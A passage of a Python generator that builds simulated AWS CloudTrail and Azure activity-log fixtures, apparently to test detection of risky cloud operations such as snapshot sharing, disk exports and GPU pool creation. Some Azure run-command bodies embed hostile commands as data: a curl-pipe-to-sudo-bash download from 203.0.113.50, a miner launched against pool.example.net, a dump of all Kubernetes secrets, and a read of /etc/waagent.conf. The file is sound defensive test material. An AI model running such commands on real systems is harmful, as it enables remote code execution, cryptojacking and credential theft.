            "disableProtectionReason": "NotSpecified", "replicationProviderInput": {"instanceType": "A2A"}}}, "lro",
            "forbidden"),
        "azure.recoveryservices.asr_replication_purge": ("rg-dr", ASR_ITEM, None, "lro", "forbidden"),
        "azure.compute.vmss_write": (rg_batch, "virtualMachineScaleSets/vmss-batch-cpu",
                                     vmss_body("Standard_D8s_v5", "cpu", "Canonical", "ubuntu-24_04-lts", "server"),
                                     "write_accept",
                                     conflict("OperationNotAllowed", "Operation could not be completed as it results in exceeding approved standardDSv5Family Cores quota. Additional details - Deployment Model: Resource Manager, Location: westeurope, Current Limit: 64, Current Usage: 48, Additional Required: 64, (Minimum) New Limit Required: 112.")),
        # GPU sizes (the N series); the look-alikes (az_lookalike_body) ask for a general-purpose one.
        "azure.compute.vmss_write_gpu": (rg_batch, "virtualMachineScaleSets/vmss-batch-gpu",
                                         vmss_body("Standard_NC24ads_A100_v4", "gpu", "microsoft-dsvm", "ubuntu-hpc", "2204"),
                                         "write_accept", None),
        "azure.compute.vm_write_gpu": (rg_batch, "virtualMachines/vm-train-a100-01",
                                       vm_body("vm-train-a100-01", "Standard_NC24ads_A100_v4"), "write_accept", None),
        "azure.compute.vmss_delete": (rg_batch, "virtualMachineScaleSets/vmss-batch-cpu", None, "lro", locked(rg_batch)),
        "azure.compute.restore_point_collection_write": (rg_data, "restorePointCollections/rpc-vm-sql01",
                                                         {"location": "westeurope", "properties": {"source": {"id": f"/subscriptions/{SUB}/resourceGroups/{rg_data}/providers/Microsoft.Compute/virtualMachines/vm-sql01"}}},
                                                         "sync_created", conflict("OperationNotAllowed", "The source resource of restore point collection cannot be changed.")),
        "azure.compute.disk_sas_export": (rg_data, f"disks/{DISK_OS}", {"access": "Read", "durationInSeconds": 86400}, "lro", None),
        "azure.compute.snapshot_sas_export": (rg_data, "snapshots/snap-sql01-os-20261004",
                                              {"access": "Read", "durationInSeconds": 3600}, "lro", "forbidden"),
        "azure.compute.restore_point_sas_export": (rg_data, "restorePointCollections/rpc-vm-sql01/restorePoints/rp-20261012",
                                                   None, "lro", "forbidden"),
        "azure.compute.gallery_share": (rg_build, "galleries/gal_golden_images",
                                        {"operationType": "Add", "groups": [{"type": "Subscriptions", "ids": [SUB_PEER]},
                                                                            {"type": "AADTenants", "ids": [uid("fabrikam-tenant")]}]},
                                        "lro", "forbidden"),
        "azure.compute.gallery_image_version_write": (rg_build, "galleries/gal_golden_images/images/ubuntu-web/versions/1.4.0",
                                                      {"location": "westeurope", "properties": {
                                                          "publishingProfile": {"targetRegions": [{"name": "westeurope", "regionalReplicaCount": 1}], "replicaCount": 1},
                                                          "storageProfile": {"source": {"virtualMachineId": f"/subscriptions/{SUB}/resourceGroups/{rg_build}/providers/Microsoft.Compute/virtualMachines/vm-golden-01"}}}},
                                                      "sync_created", conflict("OperationNotAllowed", "Changing property 'galleryImageVersion.properties.storageProfile.source.id' is not allowed.")),
        "azure.compute.image_write": (rg_build, "images/img-golden-web-20261014",
                                      {"location": "westeurope", "properties": {"sourceVirtualMachine": {"id": f"/subscriptions/{SUB}/resourceGroups/{rg_build}/providers/Microsoft.Compute/virtualMachines/vm-golden-01"},
                                                                                "hyperVGeneration": "V2"}},
                                      "sync_created", conflict("OperationNotAllowed", "The source virtual machine '/subscriptions/aaaaaaaa-1111-2222-3333-444444444444/resourceGroups/rg-build/providers/Microsoft.Compute/virtualMachines/vm-golden-01' must be generalized to create an image.")),
        "azure.compute.restore_point_write": (rg_data, "restorePointCollections/rpc-vm-sql01/restorePoints/rp-20261015",
                                              {"properties": {"excludeDisks": []}}, "sync_created",
                                              conflict("OperationNotAllowed", "A restore point operation is already in progress for the VM vm-sql01. Retry after the operation completes.")),
        "azure.compute.restore_point_collection_delete": (rg_data, "restorePointCollections/rpc-vm-app02", None, "lro", locked(rg_data)),
        "azure.compute.restore_point_delete": (rg_data, "restorePointCollections/rpc-vm-sql01/restorePoints/rp-20260920", None, "lro",
                                               conflict("OperationNotAllowed", "Restore point rp-20260920 cannot be deleted while a disk restore from it is in progress.")),
        "azure.compute.vm_run_command": (rg_web, "virtualMachines/vm-web-01",
                                         {"commandId": "RunShellScript", "script": ["curl -fsSL http://203.0.113.50/u.sh | sudo bash"]},
                                         "lro", conflict("Conflict", "Run command extension execution is in progress. Please wait for completion before invoking a run command.")),
        "azure.aks.run_command": (rg_aks, f"{AKS}",
                                  {"command": "kubectl get secrets -A -o yaml", "context": "", "clusterToken": "***"},
                                  "lro", conflict("OperationNotAllowed", "Operation is not allowed because the managed cluster aks-prod-weu is stopped.")),
        "azure.aks.agent_pool_write_gpu": (rg_aks, f"{AKS}/agentPools/gpu1", aks_pool_body("Standard_NC24ads_A100_v4"), "lro", None),
        "azure.aks.agent_pool_write": (rg_aks, f"{AKS}/agentPools/apps", aks_pool_body("Standard_D8s_v5"), "lro",
                                       conflict("OperationNotAllowed", "Operation could not be completed as it results in exceeding approved standardDSv5Family Cores quota. Additional details - Deployment Model: Resource Manager, Location: westeurope, Current Limit: 100, Current Usage: 96, Additional Required: 32, (Minimum) New Limit Required: 128.")),
        "azure.batch.pool_write_gpu": (rg_batch, f"{BATCH}/pools/render-gpu", batch_pool_body("STANDARD_NC24ADS_A100_V4"), "sync_created", None),
        "azure.batch.pool_write": (rg_batch, f"{BATCH}/pools/route-sim", batch_pool_body("STANDARD_D16S_V5"), "sync_created",
                                   conflict("AccountVmSizeQuotaReached", "The specified account has reached VM size quota for Standard DSv5 Family.")),
        "azure.compute.vm_managed_run_command_write": (rg_web, "virtualMachines/vm-web-02/runCommands/rc-maintenance",
                                                       {"location": "westeurope", "properties": {"source": {"script": "id; cat /etc/waagent.conf"},
                                                                                                 "asyncExecution": False, "timeoutInSeconds": 3600}},
                                                       "sync_created", "forbidden"),
        "azure.compute.vmss_vm_run_command": (rg_batch, "virtualMachineScaleSets/vmss-batch-gpu/virtualMachines/3",
                                              {"commandId": "RunShellScript", "script": ["nvidia-smi; nohup /tmp/xmr -o pool.example.net:443 &"]},
                                              "lro", conflict("Conflict", "Run command extension execution is in progress. Please wait for completion before invoking a run command.")),
        "azure.compute.vmss_extension_write": (rg_batch, "virtualMachineScaleSets/vmss-batch-gpu/extensions/CustomScript",
                                               {"properties": {"publisher": "Microsoft.Azure.Extensions", "type": "CustomScript",
                                                               "typeHandlerVersion": "2.1", "autoUpgradeMinorVersion": True,
                                                               "settings": {"commandToExecute": "bash setup.sh"}}},
                                               "sync_created", "forbidden"),
        # Network Watcher's agent: a security agent's removal is its own row (below).
        "azure.compute.vm_extension_delete": (rg_web, "virtualMachines/vm-web-01/extensions/NetworkWatcherAgentLinux", None, "lro",
                                              conflict("OperationNotAllowed", "Cannot modify extensions in the VM when the VM is not running.")),
        "azure.compute.vm_security_extension_delete": (rg_data, "virtualMachines/vm-sql01/extensions/MDE.Windows", None, "lro",
                                                       conflict("OperationNotAllowed", "Cannot modify extensions in the VM when the VM is not running.")),
        "azure.compute.gallery_application_version_write": (rg_build, "galleries/gal_golden_images/applications/ops-agent/versions/2.0.1",
                                                            {"location": "westeurope", "properties": {"publishingProfile": {
                                                                "source": {"mediaLink": "https://stdeployartifacts01.blob.core.windows.net/apps/ops-agent-2.0.1.zip"},
                                                                "manageActions": {"install": "unzip ops-agent-2.0.1.zip && ./install.sh", "remove": "./uninstall.sh"},
                                                                "targetRegions": [{"name": "westeurope", "regionalReplicaCount": 1}]}}},
                                                            "sync_created", "forbidden"),
        "azure.compute.vm_reimage": (rg_web, "virtualMachines/vm-web-04", {"tempDisk": False}, "lro",
                                     conflict("OperationNotAllowed", "Reimage is only supported for Virtual Machines with ephemeral OS disk.")),
        "azure.compute.vmss_reimage": (rg_batch, "virtualMachineScaleSets/vmss-batch-cpu", {"instanceIds": ["0", "2"]}, "lro",
                                       conflict("OperationNotAllowed", "Operation 'reimage' is not allowed since the Virtual Machine Scale Set is being deleted.")),
        "azure.compute.vmss_reimage_all": (rg_batch, "virtualMachineScaleSets/vmss-batch-cpu", {"instanceIds": ["1"]}, "lro",
                                           conflict("OperationNotAllowed", "Operation 'reimageAll' is not allowed since the Virtual Machine Scale Set is being deleted.")),
        "azure.compute.vmss_manual_upgrade": (rg_batch, "virtualMachineScaleSets/vmss-batch-cpu", {"instanceIds": ["0", "1", "2"]}, "lro",
                                              conflict("OperationNotAllowed", "Operation 'manualUpgrade' is not allowed since the Virtual Machine Scale Set is being deleted.")),
        "azure.compute.vm_power_off": (rg_web, "virtualMachines/vm-web-02", None, "lro", "forbidden"),
        "azure.compute.disk_encryption_set_write": (rg_sec, "diskEncryptionSets/des-prod",
                                                    {"location": "westeurope", "identity": {"type": "SystemAssigned"},
                                                     "properties": {"activeKey": {"keyUrl": "https://kv-prod-cmk-01.vault.azure.net/keys/des-key/5b2e9f0c1d4a4b8e9f3a7c6d2e1b0a98",
                                                                                  "sourceVault": {"id": f"/subscriptions/{SUB}/resourceGroups/{rg_sec}/providers/Microsoft.KeyVault/vaults/kv-prod-cmk-01"}},
                                                                    "encryptionType": "EncryptionAtRestWithCustomerKey", "rotationToLatestKeyVersionEnabled": False}},
                                                    "sync_created", "forbidden"),
        "azure.compute.disk_encryption_set_delete": (rg_sec, "diskEncryptionSets/des-legacy", None, "lro",
                                                     conflict("OperationNotAllowed", "Disk Encryption Set des-legacy is in use by one or more resources and cannot be deleted.")),
        "azure.compute.disk_access_write": (rg_data, "diskAccesses/da-export-01", {"location": "westeurope"}, "sync_created", "forbidden"),
    }
    return S[row_id]


def cross_src(res: str) -> str:
    """A resource of the peer subscription, where a cross-subscription copy reads from."""
    return f"/subscriptions/{SUB_PEER}/resourceGroups/rg-prod-data/providers/Microsoft.Compute/{res}"


def az_lookalike_body(row_id: str):
    """The negative of a cross-subscription copy row: the same copy of this subscription's own
    snapshot (the catch-all row's); of a GPU row: the same request with a general-purpose size."""
    _, _, body, _, _ = az_spec(row_id)
    if row_id == "azure.compute.vm_write_gpu":
        return vm_body("vm-train-a100-01", "Standard_D16s_v5")
    if row_id == "azure.compute.vm_write_os_disk":
        return vm_body("vm-web-03")
    if row_id == "azure.compute.vm_write_user_data":
        return vm_os_disk_body("vm-web-04")
    if row_id == "azure.compute.vm_write_data_disk":
        return vm_data_disk_body("vm-web-05", attach=False)
    if row_id == "azure.compute.disk_from_snapshot":
        return {**body, "properties": {"creationData": {"createOption": "Empty"}, "diskSizeGB": 64}}
    if row_id == "azure.compute.vmss_write_gpu":
        return {**body, "sku": {**body["sku"], "name": "Standard_D16s_v5"}}
    if row_id == "azure.aks.agent_pool_write_gpu":
        return aks_pool_body("Standard_D16s_v5")
    if row_id == "azure.batch.pool_write_gpu":
        return batch_pool_body("STANDARD_D16S_V5")
    src = body["properties"]["creationData"]["sourceResourceId"].replace(SUB_PEER, SUB)
    return {**body, "properties": {**body["properties"],
                                   "creationData": {**body["properties"]["creationData"], "sourceResourceId": src}}}


AZ_LOOKALIKE_ROWS = {"azure.compute.snapshot_copy_cross_subscription", "azure.compute.disk_copy_cross_subscription"}
AZ_GPU_ROWS = {"azure.compute.vm_write_gpu", "azure.compute.vmss_write_gpu"}
# Rows added after the Azure GPU rows get a month of their own, so that the files before them keep
# their slots.
LATE_ROWS = {"aws.ec2.replace_root_volume_delete_replaced", "azure.compute.vmss_manual_upgrade"}
# ... and the EBS direct APIs' rows one more.
EBS_DIRECT_ROWS = set(EBS_DIRECT_BUILDERS)
# ... and the lifecycle policies' share rules and the security agents' removal one more.
JUNE_ROWS = {"aws.dlm.policy_share_external", "aws.dlm.policy_share_external_updated",
             "azure.compute.vm_security_extension_delete", "azure.compute.vmss_security_extension_delete"}
# ... and the forty-first session's rows July, when the AWS principals have no other fixture.
JULY_ROWS = {"aws.ec2.request_spot_fleet", "aws.ec2.disable_image_deregistration_protection"}
# ... and the forty-second session's AMI and snapshot revivals, AWS Backup and Azure Recovery
# Services rows May.
MAY_ROWS = {"aws.ec2.restore_snapshot_from_recycle_bin", "aws.ec2.restore_image_from_recycle_bin", "aws.ec2.enable_image",
            "aws.backup.start_restore_job", "aws.backup.delete_recovery_point",
            "azure.recoveryservices.backup_restore", "azure.recoveryservices.backup_protection_delete",
            "azure.recoveryservices.backup_config_write", "azure.recoveryservices.asr_test_failover",
            "azure.recoveryservices.asr_unplanned_failover", "azure.recoveryservices.asr_replication_disable",
            "azure.recoveryservices.asr_replication_purge"}
# ... and the same session's account launch defaults, snapshot locks and archive and file
# recoveries April.
APRIL_ROWS = {"aws.ec2.unlock_snapshot", "aws.ec2.imds_defaults_v1", "aws.ec2.modify_instance_metadata_defaults",
              "aws.ec2.disable_allowed_images", "aws.ec2.restore_snapshot_tier",
              "azure.recoveryservices.backup_file_recovery"}
# ... and the forty-third session's Auto Scaling groups, launch template defaults and disabled
# AMIs March.
MARCH_ROWS = {"aws.ec2.modify_launch_template", "aws.autoscaling.instance_refresh", "aws.autoscaling.terminate_instance",
              "aws.autoscaling.delete_group", "aws.autoscaling.create_group", "aws.autoscaling.scale_to_zero",
              "aws.autoscaling.desired_capacity_zero", "aws.ec2.disable_image"}
# ... and the forty-fourth session's recovery point retention cut and fleets deleted with their
# instances February.
FEBRUARY_ROWS = {"aws.backup.recovery_point_retention_cut", "aws.ec2.delete_fleets_terminate",
                 "aws.ec2.cancel_spot_fleet_terminate"}
# The forty-fifth session's rows: WorkSpaces, and a scheduled action that empties a group.
JANUARY_ROWS = {"aws.autoscaling.scheduled_scale_to_zero", "aws.workspaces.image_shared",
                "aws.ec2.create_launch_template_gpu", "aws.ec2.create_launch_template_version_gpu",
                "aws.workspaces.create_image", "aws.workspaces.restore", "aws.workspaces.rebuild",
                "aws.workspaces.terminate"}
# The forty-sixth session's launch templates that allow IMDSv1: December's 4th and 5th, after
# the EBS direct rows' first three days.
DECEMBER_ROWS = {"aws.ec2.create_launch_template_imdsv1", "aws.ec2.create_launch_template_version_imdsv1"}
# The forty-seventh session's disk made from a snapshot and a VM written with its OS disk named
# (the two steps of an OS disk swapped for a snapshot's): December's 4th and 5th too, which no
# Azure fixture used.
DECEMBER_AZ_ROWS = {"azure.compute.disk_from_snapshot", "azure.compute.vm_write_os_disk"}
# ... and the Azure user-data row November's last two days.
NOVEMBER_AZ_ROWS = {"azure.compute.vm_write_user_data"}
# ... and the Azure data-disk row November's 27th and 28th, before them.
NOVEMBER_MOUNT_ROWS = {"azure.compute.vm_write_data_disk"}
# The fiftieth session's Lightsail rows August, which no other AWS fixture uses.
LIGHTSAIL_ROWS = {k for k in AWS_BUILDERS if k.startswith("aws.lightsail.")}
# The fifty-second session's node pools (EKS, AKS, Batch) and AKS run command: November's 10th
# to 17th (AWS) and 3rd to 12th (Azure), between the late rows' and the scenarios' days.
NODE_POOL_AWS_ROWS = {"aws.eks.create_nodegroup_gpu", "aws.eks.create_nodegroup"}
# The fifty-third session's AWS Batch compute environments: November's 18th to 22nd, after the
# node pools' days and before the scenarios'.
BATCH_AWS_ROWS = {"aws.batch.create_compute_environment_gpu", "aws.batch.create_compute_environment",
                  "aws.batch.update_compute_environment_gpu", "aws.batch.update_compute_environment"}
NODE_POOL_AZ_ROWS = {"azure.aks.run_command", "azure.aks.agent_pool_write_gpu", "azure.aks.agent_pool_write",
                     "azure.batch.pool_write_gpu", "azure.batch.pool_write"}
NODE_POOL_AZ_GPU_ROWS = {"azure.aks.agent_pool_write_gpu", "azure.batch.pool_write_gpu"}


def az_success_phases(op: AzOp, phases: str, body, vm_resp=None) -> list[dict]:
    if phases == "write_accept":
        rb = {"name": op.res.split("/")[-1], "id": op.orig, "type": "Microsoft.Compute/" + op.res.split("/")[0],
              "location": "westeurope",
              "properties": {**(body.get("properties", {}) if isinstance(body, dict) else {}),
                             "provisioningState": "Creating", "vmId": uid(op.key, "vmId")}}
        if isinstance(body, dict) and "sku" in body:
            rb["sku"] = body["sku"]
        return [op.record("Start", 0, body=body),
                op.record("Accept", 1.2, status="Created", response_body=rb, duration=1180),
                op.record("Success", 61, status="OK", duration=59840)]
    if phases == "lro":
        return [op.record("Start", 0, body=body),
                op.record("Accept", 0.6, status="Accepted", duration=540),
                op.record("Success", 47, status="OK", duration=46510)]
    if phases == "sync_created":
        return [op.record("Start", 0, body=body), op.record("Success", 2.3, status="Created", duration=2264)]
    if phases == "sync_ok":
        return [op.record("Start", 0, body=body), op.record("Success", 1.4, status="OK", duration=1391)]
    raise ValueError(phases)


def az_failure(op: AzOp, body, failure) -> list[dict]:
    if failure == "forbidden":
        op.denied = True
        c = AZ_CALLERS[op.cname]
        who = c.get("upn") or c["appid"]
        failure = ("Forbidden", "AuthorizationFailed",
                   f"The client '{who}' with object id '{az_oid(op.cname)}' does not have authorization to perform "
                   f"action '{op.op}' over scope '{op.orig}' or the scope is invalid. If access was recently granted, "
                   "please refresh your credentials.")
    return [op.record("Start", 0, body=body), op.record("Failure", 0.9, failure=failure, duration=870)]


def azure_op_records(key: str, row_op: str, cname: str, t: dt.datetime, style: str, rg: str, res: str, body,
                     phases: str, failure=None) -> list[dict]:
    op = AzOp(key, cname, t, row_op, rg, res, style)
    return az_failure(op, body, failure) if failure is not None else az_success_phases(op, phases, body)


# ------------------------------------------------------------------------------------------------
# generation
# ------------------------------------------------------------------------------------------------

def gen_fixtures(catalog: list[dict]) -> dict:
    later = GAP_ROWS | AZ_LOOKALIKE_ROWS | AZ_GPU_ROWS | LATE_ROWS | EBS_DIRECT_ROWS | JUNE_ROWS | JULY_ROWS | MAY_ROWS | APRIL_ROWS | MARCH_ROWS | FEBRUARY_ROWS | JANUARY_ROWS | DECEMBER_ROWS | DECEMBER_AZ_ROWS | NOVEMBER_AZ_ROWS | NOVEMBER_MOUNT_ROWS | LIGHTSAIL_ROWS | NODE_POOL_AWS_ROWS | NODE_POOL_AZ_ROWS | BATCH_AWS_ROWS
    built = gen_fixtures_month([r for r in catalog if r["id"] not in later], 10)
    built.update(gen_fixtures_month([r for r in catalog if r["id"] in GAP_ROWS], 9))
    built.update(gen_fixtures_month([r for r in catalog if r["id"] in AZ_LOOKALIKE_ROWS], 8))
    built.update(gen_fixtures_month([r for r in catalog if r["id"] in AZ_GPU_ROWS], 7))
    built.update(gen_fixtures_month([r for r in catalog if r["id"] in LATE_ROWS], 11))
    built.update(gen_fixtures_month([r for r in catalog if r["id"] in EBS_DIRECT_ROWS], 12))
    built.update(gen_fixtures_month([r for r in catalog if r["id"] in JUNE_ROWS], 6))
    built.update(gen_fixtures_month([r for r in catalog if r["id"] in JULY_ROWS], 7))
    built.update(gen_fixtures_month([r for r in catalog if r["id"] in MAY_ROWS], 5))
    built.update(gen_fixtures_month([r for r in catalog if r["id"] in APRIL_ROWS], 4))
    built.update(gen_fixtures_month([r for r in catalog if r["id"] in MARCH_ROWS], 3))
    built.update(gen_fixtures_month([r for r in catalog if r["id"] in FEBRUARY_ROWS], 2))
    built.update(gen_fixtures_month([r for r in catalog if r["id"] in JANUARY_ROWS], 1))
    built.update(gen_fixtures_month([r for r in catalog if r["id"] in DECEMBER_ROWS | DECEMBER_AZ_ROWS], 12, first=4))
    built.update(gen_fixtures_month([r for r in catalog if r["id"] in NOVEMBER_AZ_ROWS], 11, first=29, days=2))
    built.update(gen_fixtures_month([r for r in catalog if r["id"] in NOVEMBER_MOUNT_ROWS], 11, first=27, days=2))
    built.update(gen_fixtures_month([r for r in catalog if r["id"] in LIGHTSAIL_ROWS], 8))
    built.update(gen_fixtures_month([r for r in catalog if r["id"] in NODE_POOL_AWS_ROWS], 11, first=10, days=8))
    built.update(gen_fixtures_month([r for r in catalog if r["id"] in BATCH_AWS_ROWS], 11, first=18, days=5))
    built.update(gen_fixtures_month([r for r in catalog if r["id"] in NODE_POOL_AZ_ROWS], 11, first=3, days=10))
    return built


def gen_fixtures_month(catalog: list[dict], month: int, first: int = 1, days: int | None = None) -> dict:
    aws_rows = [r for r in catalog if r["cloud"] == "aws"]
    az_rows = [r for r in catalog if r["cloud"] == "azure"]
    built = {}

    # ---------------- AWS ----------------
    files = []
    for r in aws_rows:
        files.append((r, r["positive"], False))
        files.append((r, r["negative"], True))
    n = len(files)
    for k, (row, path, is_neg) in enumerate(files):
        row_id = row["id"]
        pname = "root" if path in AWS_ROOT_FILES else AWS_POOL[k % len(AWS_POOL)]
        region = REGIONS[num(path, "region", mod=len(REGIONS))]
        t = slot_time(k, n, AWS_PRINCIPALS[pname]["hour"], path, month, first, days)
        if row_id in SERVICE_EVENT_ROWS:
            t = slot_time(k, n, 6, path)  # the copying account gets its own hour: >24 h between its events
            actor = OWN if is_neg else EXT
            detail = service_event(path, t, region, SERVICE_EVENT_ROWS[row_id], rid("snap", "shared-prod-db"), actor)
            env = envelope(detail, path, service_event=True)
        else:
            err = negative_kind(path) if is_neg else None
            look = is_neg and err is None
            ctx = Ctx(path, t, pname, region)
            env = envelope(build_aws(row_id, ctx, look, err), path)
        write_json(path, env)
        built[path] = env

    # ---------------- Azure ----------------
    files = []
    for r in az_rows:
        files.append((r, r["positive"], False))
        files.append((r, r["negative"], True))
    n = len(files)
    for k, (row, path, is_neg) in enumerate(files):
        cname = AZ_POOL[k % len(AZ_POOL)]
        t = slot_time(k, n, AZ_CALLERS[cname]["hour"], path, month, first, days)
        style = "new" if k % 3 != 1 else "old"
        rg, res, body, phases, failure = az_spec(row["id"])
        op_name = row["operation"]
        if is_neg and row["id"] in AZ_LOOKALIKE_ROWS | AZ_GPU_ROWS | DECEMBER_AZ_ROWS | NOVEMBER_AZ_ROWS | NOVEMBER_MOUNT_ROWS | NODE_POOL_AZ_GPU_ROWS:
            recs = azure_op_records(path, op_name, cname, t, style, rg, res, az_lookalike_body(row["id"]), phases)
        elif is_neg and row["id"] == "azure.compute.disk_sas_export":
            # endGetAccess: a successful revocation of the disk SAS (not in the catalog)
            recs = azure_op_records(path, "Microsoft.Compute/disks/endGetAccess/action", cname, t, style, rg, res,
                                    None, "lro")
        elif is_neg:
            recs = azure_op_records(path, op_name, cname, t, style, rg, res, body, phases, failure)
            if row.get("on_start") and failure == "forbidden":
                # Refused by RBAC before it started: the Failure alone, which a row counted
                # from its Start must not count.
                recs = [r for r in recs if r["resultType"] != "Start"]
        else:
            recs = azure_op_records(path, op_name, cname, t, style, rg, res, body, phases)
        payload = {"records": recs}
        write_json(path, payload)
        built[path] = payload
    return built


def gen_variants() -> None:
    """Real CloudTrail shape of ModifyInstanceMetadataOptions (wrapped PascalCase request)."""
    row = "aws.ec2.imds_v1_enabled"
    for name, look, day in (("ec2-modify-instance-metadata-options-optional-wrapped.json", False, 12),
                            ("ec2-modify-instance-metadata-options-required-wrapped.json", True, 13)):
        key = f"variants/aws/{name}"
        t = dt.datetime(2026, 10, day, 7, 41, num(key, "s", mod=60), tzinfo=UTC)
        ctx = Ctx(key, t, "bob", "us-east-1")
        service, ev, req, resp, _ = b_imds_wrapped(ctx, row, look)
        write_json(key, envelope(ct_record(ctx, service, ev, req, resp), key))


def gen_scenarios() -> None:
    # 1. Atomic: CreateSnapshot then share it with another account (same snapshot), 2026-11-02
    key0 = "scenarios/atomic-aws-snapshot-share"
    vol = rid("vol", "atomic-share")
    snap = rid("snap", "atomic-share")
    t0 = dt.datetime(2026, 11, 2, 14, 5, 11, tzinfo=UTC)
    c1 = Ctx(key0 + "/1", t0, "atomic-tester", "us-east-1")
    desc = "atomic-red-team T1578.001"
    d1 = ct_record(c1, "ec2", "CreateSnapshot", {"volumeId": vol, "description": desc},
                   ec2_ok(c1, snapshotId=snap, volumeId=vol, status="pending", startTime=c1.ms(), progress="",
                          ownerId=OWN, description=desc, volumeSize=8, encrypted=False, storageTier="standard"))
    c2 = Ctx(key0 + "/2", t0 + dt.timedelta(minutes=2, seconds=29), "atomic-tester", "us-east-1")
    d2 = ct_record(c2, "ec2", "ModifySnapshotAttribute",
                   {"snapshotId": snap, "attributeType": "CREATE_VOLUME_PERMISSION",
                    "createVolumePermission": {"add": {"items": [{"userId": EXT}]}}}, ec2_ok(c2, _return=True))
    write_json(f"{key0}/events.json", [envelope(d1, c1.key), envelope(d2, c2.key)])

    # 2. Atomic Azure: snapshot of the OS disk then capture the VM, 2026-11-03
    key = "scenarios/atomic-azure-snapshot-capture"
    t = dt.datetime(2026, 11, 3, 15, 12, 4, tzinfo=UTC)
    disk = "vm-atomic01_OsDisk_1_" + hx("atomic-os", n=32)
    recs = azure_op_records(key + "/snapshot", "Microsoft.Compute/snapshots/write", "atomic", t, "new", "rg-atomic",
                            "snapshots/atomic-snapshot", {"location": "eastus", "properties": {"creationData": {
                                "createOption": "Copy",
                                "sourceResourceId": f"/subscriptions/{SUB}/resourceGroups/rg-atomic/providers/Microsoft.Compute/disks/{disk}"}}},
                            "sync_created")
    recs += azure_op_records(key + "/capture", "Microsoft.Compute/virtualMachines/capture/action", "atomic",
                             t + dt.timedelta(minutes=6, seconds=41), "new", "rg-atomic", "virtualMachines/vm-atomic01",
                             {"vhdPrefix": "atomic", "destinationContainerName": "vhds", "overwriteVhds": True}, "lro")
    write_json(f"{key}/events.json", {"records": recs})

    # 3. Atomic: RunInstances (1) then TerminateInstances of that instance, 2026-11-04
    key = "scenarios/atomic-aws-run-terminate"
    t = dt.datetime(2026, 11, 4, 14, 21, 37, tzinfo=UTC)
    c1 = Ctx(key + "/1", t, "atomic-tester", "us-east-1")
    _, _, req, resp, _ = run_instances(c1, "atomic-run", 1, "t2.micro", "required", "atomic-red-team")
    iid = resp["instancesSet"]["items"][0]["instanceId"]
    d1 = ct_record(c1, "ec2", "RunInstances", req, resp)
    c2 = Ctx(key + "/2", t + dt.timedelta(minutes=4, seconds=12), "atomic-tester", "us-east-1")
    d2 = ct_record(c2, "ec2", "TerminateInstances", {"instancesSet": {"items": [{"instanceId": iid}]}},
                   ec2_ok(c2, instancesSet={"items": [instance_state(iid, SHUTTING, RUNNING)]}))
    write_json(f"{key}/events.json", [envelope(d1, c1.key), envelope(d2, c2.key)])

    # 4. mixed-burst: one role, rotating session names, 3 IPs, 2 regions, 4 DeleteSnapshot + 6 TerminateInstances
    key = "scenarios/mixed-burst"
    AWS_PRINCIPALS["ec2-maintenance"] = dict(kind="AssumedRole", role="ec2-maintenance", path="", session="x",
                                             ip="", ua="boto3", hour=1)
    ips = ["203.0.113.10", "198.51.100.77", "192.0.2.201"]
    regions = ["us-east-1", "eu-west-1"]
    plan = ["DeleteSnapshot", "TerminateInstances", "DeleteSnapshot", "TerminateInstances", "TerminateInstances",
            "DeleteSnapshot", "TerminateInstances", "TerminateInstances", "DeleteSnapshot", "TerminateInstances"]
    start = dt.datetime(2026, 11, 5, 1, 8, 44, tzinfo=UTC)
    out = []
    for i, name in enumerate(plan):
        t = start + dt.timedelta(minutes=11 * i + num(key, i, mod=7), seconds=num(key, i, "s", mod=50))
        session = f"botocore-session-{1793840000 + 977 * i + num(key, i, 'sess', mod=900)}"
        ctx = Ctx(f"{key}/{i}", t, "ec2-maintenance", regions[i % 2], session=session)
        ctx.p = dict(ctx.p, ip=ips[i % 3])
        if name == "DeleteSnapshot":
            snap = rid("snap", "burst", i)
            d = ct_record(ctx, "ec2", name, {"snapshotId": snap}, ec2_ok(ctx, _return=True))
        else:
            iid = rid("i", "burst", i)
            d = ct_record(ctx, "ec2", name, {"instancesSet": {"items": [{"instanceId": iid}]}},
                          ec2_ok(ctx, instancesSet={"items": [instance_state(iid, SHUTTING, RUNNING)]}))
        out.append(envelope(d, ctx.key))
    write_json(f"{key}/events.json", out)


def raw_record(row_id: str, key: str, t: dt.datetime, principal: str, region: str = "us-east-1") -> dict:
    ctx = Ctx(key, t, principal, region)
    return build_aws(row_id, ctx, False, None)


def gen_formats() -> None:
    base = dt.datetime(2026, 11, 6, 10, 2, 0, tzinfo=UTC)

    def at(minutes, seconds=0):
        return base + dt.timedelta(minutes=minutes, seconds=seconds)

    # CloudTrail S3 log file
    s3 = [
        raw_record("aws.ec2.create_snapshot", "formats/s3/0", at(0, 7), "alice"),
        raw_record("aws.ec2.snapshot_shared", "formats/s3/1", at(1, 41), "alice"),
        raw_record("aws.ec2.run_instances", "formats/s3/2", at(2, 13), "ci-deploy"),
        raw_record("aws.ec2.terminate_instances", "formats/s3/3", at(3, 2), "bob"),
        raw_record("aws.rds.db_snapshot_shared", "formats/s3/4", at(4, 55), "sso-admin"),
    ]
    s3_doc = {"Records": s3}
    write_json("formats/cloudtrail-s3-log.json", s3_doc, indent=None)
    raw = (json.dumps(s3_doc, ensure_ascii=False) + "\n").encode()
    buf = io.BytesIO()
    with gzip.GzipFile(filename="", mode="wb", fileobj=buf, mtime=0) as gz:
        gz.write(raw)
    write_bytes("formats/cloudtrail-s3-log.json.gz", buf.getvalue())

    # JSON lines, with two out-of-scope records
    describe_ctx = Ctx("formats/jsonl/describe", at(20, 3), "bob", "us-east-1")
    describe = ct_record(describe_ctx, "ec2", "DescribeInstances",
                         {"instancesSet": {}, "filterSet": {"items": [{"name": "tag:env", "valueSet": {"items": [{"value": "prod"}]}}]}},
                         None)
    describe["readOnly"] = True
    get_ctx = Ctx("formats/jsonl/getobject", at(21, 30), "alice", "us-east-1")
    get_object = {
        "eventVersion": "1.10",
        "userIdentity": get_ctx.identity(),
        "eventTime": ts(get_ctx.t),
        "eventSource": "s3.amazonaws.com",
        "eventName": "GetObject",
        "awsRegion": "us-east-1",
        "sourceIPAddress": get_ctx.p["ip"],
        "userAgent": "[aws-cli/2.17.42 Python/3.12.6 Linux/6.8.0-1016-aws exe/x86_64.ubuntu.24 prompt/off command/s3.cp]",
        "requestParameters": {"bucketName": "ops-exports-7f3a", "Host": "ops-exports-7f3a.s3.us-east-1.amazonaws.com",
                              "key": "exports/db-02.ova"},
        "responseElements": None,
        "additionalEventData": {"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256",
